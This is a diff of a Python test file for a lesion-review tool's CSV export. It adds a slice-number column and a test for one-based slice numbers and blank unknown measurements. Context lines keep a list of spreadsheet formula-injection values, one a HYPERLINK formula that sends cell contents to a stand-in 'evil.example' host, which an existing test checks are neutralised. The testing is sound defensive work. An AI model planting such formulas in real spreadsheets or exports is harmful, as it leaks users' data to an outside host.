@@ -16,7 +16,7 @@ EXPECTED_HEADER = (
     "box_x1_px,box_y1_px,box_x2_px,box_y2_px,box_x1_mm,box_y1_mm,box_x2_mm,box_y2_mm,"
     "center_x_mm,center_y_mm,center_z_mm,long_axis_mm,short_axis_mm,score,status,note,model_name,model_version,"
     "long_axis_x1_px,long_axis_y1_px,long_axis_x2_px,long_axis_y2_px,"
-    "short_axis_x1_px,short_axis_y1_px,short_axis_x2_px,short_axis_y2_px"
+    "short_axis_x1_px,short_axis_y1_px,short_axis_x2_px,short_axis_y2_px,slice_number"
 )
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
@@ -77,7 +77,7 @@ def test_a_finding_rows_values(session_and_volume, tmp_path):
         "center_x_mm": "-9.38", "center_y_mm": "-12.38", "center_z_mm": "-185.0",
         "long_axis_mm": "15.0", "short_axis_mm": "6.0", "score": "0.8765", "status": "accepted",
         "note": "Läsion, 2 cm; \"cyst?\"\nfollow-up", "model_name": "mp3d63", "model_version": "1.0.3",
-        **{name: "" for name in header[25:]},
+        **{name: "" for name in header[25:-1]}, "slice_number": "13",
     }
     assert [r[5] for r in rows] == ["12", "20"]  # ordered by slice
 
@@ -261,3 +261,23 @@ def test_hostile_risk_note_and_model_name_are_inert(tmp_path):
     header, row = read(tmp_path / "h.csv")
     row = dict(zip(header, row))
     assert (row["model_name"], row["note"]) == ("'" + HOSTILE[0], "'" + HOSTILE[3])
+
+
+# ---------------------------------------------------------------- issue 14: slice numbers, unknown millimetres
+
+
+def test_slice_number_counts_from_one_like_the_viewer_and_unknown_mm_are_empty(tmp_path):
+    from lesionviewer.detection.finding import Finding
+
+    nan = float("nan")
+    s = ReviewSession("1.2.3", num_slices=5)
+    s.add_findings([Finding(0, (1, 1, 4, 4), 0.9, "m", box_mm=(nan,) * 4, width_mm=nan)])
+    s.add_measurement(Measurement("ruler", 4, ((0, 0), (3, 4)), (5.0,), z_mm=nan, center_mm=(nan, nan, nan)))
+    out = tmp_path / "x.csv"
+    export_csv(s, out)
+    header, finding, ruler = read(out)
+    finding, ruler = dict(zip(header, finding)), dict(zip(header, ruler))
+    assert (finding["slice_index"], finding["slice_number"]) == ("0", "1")
+    assert (ruler["slice_index"], ruler["slice_number"]) == ("4", "5")
+    assert finding["box_x1_mm"] == "" and ruler["z_mm"] == "" and ruler["long_axis_mm"] == "5.0"
+    assert "nan" not in out.read_text(encoding="utf-8-sig").lower()
